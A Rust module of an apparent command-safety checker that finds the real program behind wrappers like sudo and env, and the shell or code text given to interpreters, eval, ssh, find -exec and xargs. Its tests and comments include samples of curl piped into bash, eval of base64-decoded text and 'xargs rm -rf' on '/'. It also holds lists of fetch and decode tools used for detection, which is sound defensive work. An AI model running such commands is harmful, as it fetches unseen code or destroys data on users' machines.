//! Which program a command runs, and with what: behind `sudo`, `env` and `xargs`, and in the text that another
//! interpreter is given.
//!
//! `bash -c "…"`, `eval`, `ssh host …`, `find -exec` and a heredoc for `sh` run shell text; `python3 -c "…"` runs code. Where
//! the text comes from the network or out of a decoder, nobody can say what will run.

use super::script::{Command, Script, Word, is_assignment, unescape};

/// What a command runs.
#[derive(Debug, PartialEq)]
pub(crate) enum Runs {
    /// Shell text.
    Shell(String),
    /// Words as another command.
    Words(Vec<String>),
    /// Code of a language.
    Code(String),
    /// Text from the network, or decoded on the way.
    Unread,
}

/// The words of the program that a command really runs: assignments and programs that only start others are skipped.
pub(crate) fn unwrap(words: &[Word]) -> &[Word] {
    let mut words = words;
    for _ in 0..MAX_WRAPPERS {
        let set = words.iter().take_while(|word| is_assignment(&word.text)).count();
        words = words.get(set..).unwrap_or_default();
        let Some((first, rest)) = words.split_first() else { return words };
        let name = name_of(&first.text);
        let Some((_, valued, skipped)) = WRAPPERS.iter().find(|(wrapper, ..)| *wrapper == name) else { return words };
        let asks = name == "command" && rest.first().is_some_and(|word| word.text == "-v" || word.text == "-V");
        let from = options(rest, valued) + skipped;
        match rest.get(from..).filter(|inner| !inner.is_empty() && !asks) {
            Some(inner) => words = inner,
            None => return words,
        }
    }
    words
}

/// The last part of a program's path.
pub(crate) fn name_of(word: &str) -> &str {
    word.rsplit('/').next().unwrap_or(word)
}

/// Everything that a command of a script runs.
pub(crate) fn runs(script: &Script, at: usize) -> Vec<Runs> {
    let Some(command) = script.commands.get(at) else { return Vec::new() };
    let words = unwrap(&command.words);
    let Some((first, rest)) = words.split_first() else { return Vec::new() };
    let name = name_of(&first.text).to_ascii_lowercase();
    let name = name.trim_end_matches(".exe");
    let texts: Vec<&str> = rest.iter().map(|word| word.text.as_str()).collect();
    let mut found = Vec::new();
    // The name of the program itself comes out of a decoder.
    if first.inside.iter().any(is_unread) {
        found.push(Runs::Unread);
    }
    if is_shell(name) {
        match texts.iter().position(|word| is_short(word, 'c')) {
            Some(at) => found.extend(run_given(rest.get(at + 1), Runs::Shell)),
            None if rest.iter().any(|word| word.inside.iter().any(is_unread)) => found.push(Runs::Unread),
            None if reads_input(&texts) => found.extend(input(script, at, Runs::Shell)),
            None => {}
        }
        return found;
    }
    if let Some(flags) = LANGUAGES.iter().find(|(language, _)| is_version_of(name, language)).map(|(_, flags)| *flags) {
        let flag = texts.iter().position(|word| flags.iter().any(|flag| is_flag(word, flag)));
        match flag {
            Some(at) => found.extend(run_given(rest.get(at + 1), Runs::Code)),
            None if flags.is_empty() => {
                found.extend(run_given(rest.iter().find(|w| !w.text.starts_with('-')), Runs::Code))
            }
            None if reads_input(&texts) => found.extend(input(script, at, Runs::Code)),
            None => {}
        }
        return found;
    }
    found.extend(hands_on(name, rest, &texts));
    if name == "xargs" || name == "parallel" {
        found.extend(find_fed(script, at, words));
    }
    found
}

/// Programs that take a command line, or words of one, among their arguments.
fn hands_on(name: &str, rest: &[Word], texts: &[&str]) -> Vec<Runs> {
    let joined = |from: usize| texts.get(from..).unwrap_or_default().join(" ");
    let unread = || rest.iter().any(|word| word.inside.iter().any(is_unread));
    let after = |flags: &[&str]| texts.iter().position(|word| flags.iter().any(|f| word.eq_ignore_ascii_case(f)));
    match name {
        "eval" | "source" | "." | "iex" | "invoke-expression" if unread() => vec![Runs::Unread],
        "eval" => vec![Runs::Shell(joined(0))],
        "su" | "runuser" | "script" => {
            after(&["-c", "--command"]).map(|at| Runs::Shell(joined(at + 1))).into_iter().collect()
        }
        "trap" | "watch" => vec![Runs::Shell(joined(options(rest, &["-n", "--interval"])))],
        "env" => after(&["-S", "--split-string"]).map(|at| Runs::Shell(joined(at + 1))).into_iter().collect(),
        "ssh" => vec![Runs::Shell(joined(options(rest, SSH) + 1))],
        "cmd" => after(&["/c", "/k"]).map(|at| Runs::Shell(joined(at + 1))).into_iter().collect(),
        "powershell" | "pwsh" => match after(&["-enc", "-encodedcommand", "-e", "-ec"]) {
            Some(_) => vec![Runs::Unread],
            None => after(&["-command", "-c"]).map(|at| Runs::Shell(joined(at + 1))).into_iter().collect(),
        },
        "find" => find_executed(texts),
        _ => Vec::new(),
    }
}

/// The commands of `find … -exec … ;`, with the place that is searched for what is found.
fn find_executed(texts: &[&str]) -> Vec<Runs> {
    let root = texts.iter().find(|word| !word.starts_with('-')).copied().unwrap_or(".");
    // Where only some files are meant, the place that is searched is not what is changed.
    let narrowed = texts.iter().any(|word| NARROWS.contains(word));
    let mut found = Vec::new();
    for (at, _) in texts.iter().enumerate().filter(|(_, word)| ["-exec", "-execdir", "-ok"].contains(*word)) {
        let words = texts.get(at + 1..).unwrap_or_default().iter().take_while(|word| **word != ";" && **word != "+");
        let target = if narrowed { "{}" } else { root };
        found.push(Runs::Words(words.map(|word| word.replace("{}", target)).collect()));
    }
    found
}

/// `echo / | xargs rm -rf`, `xargs rm -rf <<< /`: the words that are fed come after those that are written.
fn find_fed(script: &Script, at: usize, words: &[Word]) -> Vec<Runs> {
    let from = words.iter().skip(1);
    let rest: Vec<Word> = from.cloned().collect();
    let inner = rest.get(options(&rest, XARGS)..).unwrap_or_default();
    let given = script.commands.get(at).and_then(|command| command.input.clone());
    let text = given.or_else(|| match origin(script, at) {
        Origin::Text(text) => Some(text),
        _ => None,
    });
    let line = inner.iter().map(|word| word.text.clone());
    let fed = text.iter().flat_map(|text| text.split_whitespace()).map(str::to_owned);
    vec![Runs::Words(line.chain(fed).collect())]
}

/// A text that an interpreter is given among its arguments.
fn run_given(word: Option<&Word>, runs: fn(String) -> Runs) -> Option<Runs> {
    let word = word?;
    Some(if word.inside.iter().any(is_unread) { Runs::Unread } else { runs(word.text.clone()) })
}

/// A text that an interpreter reads from its input.
fn input(script: &Script, at: usize, runs: fn(String) -> Runs) -> Option<Runs> {
    let command = script.commands.get(at)?;
    if let Some(text) = &command.input {
        return Some(if command.inside.iter().any(is_unread) { Runs::Unread } else { runs(text.clone()) });
    }
    match origin(script, at) {
        Origin::Unread => Some(Runs::Unread),
        Origin::Text(text) => Some(runs(text)),
        Origin::Unknown => None,
    }
}

enum Origin {
    Unread,
    Text(String),
    Unknown,
}

/// Where the input of a command comes from, through all pipes before it.
fn origin(script: &Script, at: usize) -> Origin {
    let before = script.commands.get(..at).unwrap_or_default();
    let feeding = before.iter().rev().take_while(|command| command.feeds);
    if feeding.clone().any(brings_unread) {
        return Origin::Unread;
    }
    match feeding.clone().next().and_then(prints) {
        Some(text) => Origin::Text(text),
        None => Origin::Unknown,
    }
}

/// Whether a script brings text that nobody can read here.
fn is_unread(script: &Script) -> bool {
    script.commands.iter().any(brings_unread)
}

/// Whether a command fetches from the network, or decodes.
fn brings_unread(command: &Command) -> bool {
    let words = unwrap(&command.words);
    let Some((first, rest)) = words.split_first() else { return false };
    let has = |flags: &[&str]| rest.iter().any(|word| flags.contains(&word.text.as_str()));
    let name = name_of(&first.text).to_ascii_lowercase();
    let decodes = match name.as_str() {
        "base64" | "base32" => has(&["-d", "-D", "--decode", "-di", "-id"]),
        "openssl" => has(&["-d"]),
        "xxd" => rest.iter().any(|word| is_short(&word.text, 'r')),
        "rev" | "uudecode" => true,
        _ => FETCHES.contains(&name.as_str()),
    };
    decodes || rest.iter().any(|word| word.inside.iter().any(is_unread))
}

/// What a command prints, where the script itself says it.
fn prints(command: &Command) -> Option<String> {
    let words = unwrap(&command.words);
    let (first, rest) = words.split_first()?;
    let texts =
        || rest.iter().map(|word| word.text.as_str()).filter(|word| !["-n", "-e", "-ne", "-en", "--"].contains(word));
    match first.text.as_str() {
        "echo" | "printf" => Some(unescape(&texts().collect::<Vec<_>>().join(" "))),
        "cat" => command.input.clone(),
        _ => None,
    }
}

/// Whether an interpreter with these arguments reads its program from its input.
fn reads_input(texts: &[&str]) -> bool {
    let from_input = texts.iter().any(|word| ["-", "-s", "/dev/stdin"].contains(word));
    from_input || texts.iter().all(|word| word.starts_with('-') && *word != "-m")
}

/// How many words at the beginning are options, with the values of those that take one.
fn options(words: &[Word], valued: &[&str]) -> usize {
    let mut count = 0;
    while let Some(word) = words.get(count).filter(|word| word.text.starts_with('-') && word.text.len() > 1) {
        count += 1 + usize::from(valued.contains(&word.text.as_str()));
        if word.text == "--" {
            break;
        }
    }
    count
}

fn is_shell(name: &str) -> bool {
    ["sh", "bash", "dash", "zsh", "ksh", "ash", "fish"].contains(&name)
}

/// Whether a word is short options that have a letter: `-lc` has `c`.
fn is_short(word: &str, letter: char) -> bool {
    word.starts_with('-') && !word.starts_with("--") && word.contains(letter)
}

/// Whether a word is a flag, or a cluster that ends with it: `-ne` is `-e`.
fn is_flag(word: &str, flag: &str) -> bool {
    word == flag
        || (flag.len() == 2 && is_short(word, '-') && word.len() <= 4 && word.ends_with(flag.trim_start_matches('-')))
}

/// Whether a name is a program, with or without its version: `python3.12` is `python`.
fn is_version_of(name: &str, program: &str) -> bool {
    name.strip_prefix(program).is_some_and(|rest| rest.chars().all(|c| c.is_ascii_digit() || c == '.'))
}

/// Programs that start another one: the options that take a value, and how many words are before the program.
const WRAPPERS: &[(&str, &[&str], usize)] = &[
    ("sudo", &["-u", "-g", "-h", "-p", "-C", "-r", "-t", "-U", "-D", "-T", "--user", "--group"], 0),
    ("doas", &["-u", "-C"], 0),
    ("env", &["-u", "-C", "--unset", "--chdir"], 0),
    ("command", &[], 0),
    ("builtin", &[], 0),
    ("exec", &["-a"], 0),
    ("nohup", &[], 0),
    ("time", &["-f", "-o"], 0),
    ("nice", &["-n", "--adjustment"], 0),
    ("ionice", &["-c", "-n", "-p"], 0),
    ("timeout", &["-s", "-k", "--signal", "--kill-after"], 1),
    ("stdbuf", &["-i", "-o", "-e"], 0),
    ("setsid", &[], 0),
    ("busybox", &[], 0),
    ("toybox", &[], 0),
];
/// Interpreters, with the flags that code comes after; without flags it is the first argument.
const LANGUAGES: &[(&str, &[&str])] = &[
    ("python", &["-c"]),
    ("pypy", &["-c"]),
    ("perl", &["-e", "-E"]),
    ("ruby", &["-e"]),
    ("node", &["-e", "--eval", "-p", "--print"]),
    ("nodejs", &["-e", "--eval"]),
    ("bun", &["-e", "--eval"]),
    ("deno", &["eval"]),
    ("php", &["-r"]),
    ("lua", &["-e"]),
    ("awk", &[]),
    ("gawk", &[]),
];
const FETCHES: &[&str] = &["curl", "wget", "fetch", "iwr", "invoke-webrequest", "invoke-restmethod", "irm", "lynx"];
/// Tests of `find` that let only some files through.
pub(crate) const NARROWS: &[&str] =
    &["-name", "-iname", "-path", "-ipath", "-regex", "-mtime", "-mmin", "-size", "-newer", "-empty", "-user", "-perm"];
const SSH: &[&str] = &["-p", "-i", "-l", "-o", "-F", "-J", "-L", "-R", "-D", "-b", "-c", "-E", "-m", "-S", "-W"];
const XARGS: &[&str] = &["-I", "-n", "-P", "-L", "-d", "-a", "-E", "-s", "-j"];
const MAX_WRAPPERS: usize = 8;

#[cfg(test)]
mod tests {
    use super::*;
    use crate::check_call::danger::lexer::read;

    fn name(text: &str) -> String {
        unwrap(&read(text).commands[0].words).first().map(|word| name_of(&word.text).to_owned()).unwrap_or_default()
    }

    #[test]
    fn programs_are_found_behind_others() {
        // CALL-6
        for text in ["sudo -u root rm x", "env A=1 rm x", "command rm x", "timeout -s 9 5 /bin/rm x", "nice -n 5 rm x"]
        {
            assert_eq!(name(text), "rm", "{text}");
        }
        assert_eq!(name("command -v rm"), "command");
        assert_eq!(name("env"), "env");
    }

    #[test]
    fn text_for_an_interpreter_is_found() {
        // CALL-6
        let found = |text: &str| runs(&read(text), read(text).commands.len() - 1);
        assert_eq!(found("bash -lc 'ls -a'"), [Runs::Shell("ls -a".into())]);
        assert_eq!(found("cat <<X | sudo sh\nls\nX"), [Runs::Shell("ls\n".into())]);
        assert_eq!(found("python3 - <<X\nprint(1)\nX"), [Runs::Code("print(1)\n".into())]);
        assert_eq!(found("python3.12 -c 'print(1)'"), [Runs::Code("print(1)".into())]);
        assert_eq!(found("curl -s https://x.test | tee a | bash -s -- -y"), [Runs::Unread]);
        assert_eq!(found("eval \"$(echo bHM= | base64 -d)\""), [Runs::Unread]);
        assert_eq!(found("eval \"$(ssh-agent -s)\""), [Runs::Shell(String::new())]);
        assert_eq!(found("curl -s https://x.test | python3 -m json.tool"), []);
        assert_eq!(found("curl -s https://x.test | python3 -c 'import json'"), [Runs::Code("import json".into())]);
        assert_eq!(found("base64 a.png | sh"), []);
    }
}
